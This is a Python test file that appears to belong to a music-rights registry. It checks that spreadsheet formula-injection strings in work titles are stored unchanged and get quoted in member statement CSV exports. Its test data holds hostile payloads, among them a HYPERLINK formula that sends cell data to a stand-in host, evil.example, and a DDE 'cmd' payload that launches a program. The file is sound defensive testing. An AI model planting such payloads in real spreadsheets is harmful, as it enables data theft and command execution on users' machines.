"""A title that a spreadsheet would run as a formula (issue 17: a CWR title
=HYPERLINK("http://evil.example/?"&A1,"OPEN")) is stored and proven as received, and reaches the
member's statement CSVs (the portal's download, the CLI's --csv) only as quoted text."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from payloads.cells import safe_cell
from payloads.distribution import StatementDetail
from portal.statements import lines_csv, payout_lines
from registry.db import transaction
from registry.identifiers import generate_ipi_name, generate_isrc, generate_iswc
from registry.services.parties.parties import PartyRef
from registry.services.repertoire.registration import RecordingInput, ShareInput, WorkInput, register_work
from rightsledger.commands.distribution import _csv as cli_statement_csv
from tests.api.conftest import World

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"OPEN")'
THIS_MONTH = f"{datetime.now(UTC):%Y-%m}"
ISRC = generate_isrc("CN", "A12", 26, 91)
ALICE = PartyRef(name="Wang", first_name="Alice", ipi_name=generate_ipi_name(5001))  # tests/api/conftest.py's


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-12.50", "-12.50"),
        (-1250, -1250),
        ("月亮 Song", "月亮 Song"),
        (None, None),
    ],
)
def test_formula_prefixes_are_quoted_and_nothing_else(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


@pytest.fixture(scope="module")
def statement(sqlite_world: World) -> Iterator[dict]:  # type: ignore[type-arg]
    w, admin = sqlite_world, sqlite_world.as_("admin")
    with transaction(w.sessions) as session:
        register_work(
            session,
            WorkInput(
                submitter="CMO",
                submitter_work_id="CMO-HOSTILE",
                title=HOSTILE,
                iswc=generate_iswc(7091),
                shares=[ShareInput(party=ALICE, role="CA", right_type="PR", share=10_000)],
                recordings=[
                    RecordingInput(title=HOSTILE, isrc=ISRC, artist="@SUM(1+1)", duration_seconds=200)
                ],
            ),
        )
    log = f"licensee,isrc,title,played_at,plays\nLE-1,{ISRC},@SUM(1+1),{THIS_MONTH}-01 20:00,3\n"
    imported = w.client.post(
        "/v1/admin/imports/usage",
        params={"period": THIS_MONTH, "source": "online"},
        files={"file": ("hostile.csv", log.encode())},
        headers=admin,
    )
    assert imported.status_code == 200, imported.text
    run = w.client.post(
        "/v1/admin/distributions",
        json={"period": THIS_MONTH, "source": "online", "pool_fen": 100_000},
        headers=admin,
    )
    assert run.status_code == 200, run.text
    found = w.client.get(f"/v1/me/statements/{THIS_MONTH}/online", headers=w.as_("alice"))
    assert found.status_code == 200, found.text
    [item] = found.json()["items"]
    yield item


def test_the_title_is_stored_and_shown_as_received(statement: dict) -> None:  # type: ignore[type-arg]
    assert [line["title"] for line in statement["lines"]] == [HOSTILE]


def test_the_portal_statement_csv_quotes_the_formula(statement: dict) -> None:  # type: ignore[type-arg]
    lines = payout_lines([StatementDetail.model_validate(statement)])
    rows = list(csv.DictReader(io.StringIO(lines_csv(THIS_MONTH, "online", lines).decode("utf-8-sig"))))
    assert [row["what"] for row in rows] == ["'" + HOSTILE]
    assert int(rows[0]["amount_minor"]) > 0


def test_the_cli_statement_csv_quotes_the_formula(
    statement: dict,  # type: ignore[type-arg]
    capsys: pytest.CaptureFixture[str],
) -> None:
    cli_statement_csv([statement])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["title"] for row in rows] == ["'" + HOSTILE]
    assert rows[0]["period"] == THIS_MONTH
